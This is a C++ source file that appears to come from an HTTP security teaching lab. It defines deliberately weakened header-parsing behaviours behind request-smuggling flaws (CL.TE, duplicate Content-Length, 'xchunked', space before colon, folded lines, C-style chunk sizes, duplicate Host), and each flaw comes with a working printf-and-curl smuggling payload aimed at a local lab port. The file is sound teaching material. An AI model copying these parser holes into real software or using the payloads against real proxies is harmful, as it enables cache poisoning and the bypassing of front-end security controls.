// Two programs read the same bytes, and do not see the same requests: the one in front (a cache, a firewall, a load
// balancer) lets pass what the one behind takes for something else. Each repair here is what some gateway did, for good
// reasons: « be liberal in what you accept ». The cure is the parser of lab 02: whatever could be read two ways is
// refused (RFC 9112 §11.2).
#include "02-http-message/fields.hpp"
#include "06-security/vulnerable/flaws.hpp"

namespace vulnerable {
namespace {

// RFC 2616 §4.4 said that Content-Length « MUST be ignored » beside Transfer-Encoding: whoever did the opposite on the
// same connection saw another end of the body.
void ignore_length_beside_chunks(Head& head) {
    if (count_of(head, "Transfer-Encoding") > 0) drop_fields(head, "Content-Length");
}

// A table of fields keeps one value a name; which one, the first or the last, its author decides.
void keep_first_length(Head& head) {
    drop_fields(head, "Content-Length", 1);
}

// Looking for « chunked » somewhere in the value, rather than reading the list of codings that it is.
void guess_chunked(Head& head) {
    const auto value = value_of(head, "Transfer-Encoding");
    if (!value || value->find("chunked") == std::string::npos) return;
    drop_fields(head, "Transfer-Encoding");
    head.push_back("Transfer-Encoding: chunked");
}

bool begins_with_blank(std::string_view line) {
    return line.starts_with(' ') || line.starts_with('\t');
}

// « Content-Length : 5 » is a length for this reader, and an unknown field for the next one.
void trim_names(Head& head) {
    for (std::size_t i = 1; i < head.size(); ++i) {
        const std::string name{name_of(head[i])};
        if (!name.empty() && !begins_with_blank(head[i])) head[i] = name + head[i].substr(head[i].find(':'));
    }
}

// A line that begins with a blank continued the one before, once (obs-fold). Whoever does not know that, and is not
// particular about blanks, sees a field of its own.
void read_folded_lines(Head& head) {
    for (std::size_t i = 1; i < head.size(); ++i) head[i] = std::string{http::trim_blanks(head[i])};
}

// Which site does the request ask for? With two answers, the cache and the server may each take another one.
void settle_host(Head& head) {
    drop_fields(head, "Host", 1);
    if (count_of(head, "Host") == 0) head.push_back("Host: localhost");
}

Flaw repair_flaw(std::string id, std::string title, std::string exploit, Repair repair) {
    return {std::move(id), "", std::move(title), std::move(exploit),
            [repair](Weakened& weakened) { weakened.repairs.head.push_back(repair); }};
}

}  // namespace

std::vector<Flaw> framing_flaws() {
    return {
        repair_flaw("cl-te", "Content-Length est oublié à côté de Transfer-Encoding : une seconde requête passe",
                    R"(printf 'POST /token HTTP/1.1\r\nHost: a\r\nContent-Length: 29\r\nTransfer-Encoding: chunked\r\n)"
                    R"(\r\n0\r\n\r\nGET /cachee HTTP/1.0\r\n\r\n' | curl -s -m 5 telnet://127.0.0.1:$PORT)",
                    ignore_length_beside_chunks),
        repair_flaw("two-lengths", "De deux Content-Length, le premier est retenu",
                    R"(printf 'POST /token HTTP/1.1\r\nHost: a\r\nContent-Length: 0\r\nContent-Length: 24\r\n\r\n)"
                    R"(GET /cachee HTTP/1.0\r\n\r\n' | curl -s -m 5 telnet://127.0.0.1:$PORT)",
                    keep_first_length),
        repair_flaw("te-spelling", "« xchunked » est pris pour « chunked »",
                    R"(printf 'POST /token HTTP/1.1\r\nHost: a\r\nTransfer-Encoding: xchunked\r\n\r\n)"
                    R"(0\r\n\r\nGET /cachee HTTP/1.0\r\n\r\n' | curl -s -m 5 telnet://127.0.0.1:$PORT)",
                    guess_chunked),
        repair_flaw("space-before-colon", "Un nom de champ suivi d'une espace est accepté",
                    R"(printf 'POST /token HTTP/1.1\r\nHost: a\r\nContent-Length : 3\r\n\r\na=b)"
                    R"(GET /cachee HTTP/1.0\r\n\r\n' | curl -s -m 5 telnet://127.0.0.1:$PORT)",
                    trim_names),
        repair_flaw("folded-field", "La suite d'une ligne repliée est prise pour un champ",
                    R"(printf 'GET / HTTP/1.1\r\nHost: a\r\nX-Note: un\r\n Content-Length: 3\r\n\r\na=b)"
                    R"(GET /cachee HTTP/1.0\r\n\r\n' | curl -s -m 5 telnet://127.0.0.1:$PORT)",
                    read_folded_lines),
        {"chunk-size", "", "La taille d'un morceau se lit comme en C : « 0x5 », « +5 », au-delà de 32 bits",
         R"(printf 'POST /token HTTP/1.1\r\nHost: a\r\nTransfer-Encoding: chunked\r\n\r\n100000003\r\na=b\r\n0\r\n\r\n)"
         R"(GET /cachee HTTP/1.0\r\n\r\n' | curl -s -m 5 telnet://127.0.0.1:$PORT)",
         [](Weakened& weakened) { weakened.repairs.chunk_sizes = true; }},
        repair_flaw("host", "De deux Host, le premier est retenu, et aucun n'est exigé",
                    R"(printf 'GET / HTTP/1.1\r\nHost: a\r\nHost: b\r\nConnection: close\r\n\r\n' | )"
                    R"(curl -s -m 5 telnet://127.0.0.1:$PORT)",
                    settle_host),
    };
}

}  // namespace vulnerable
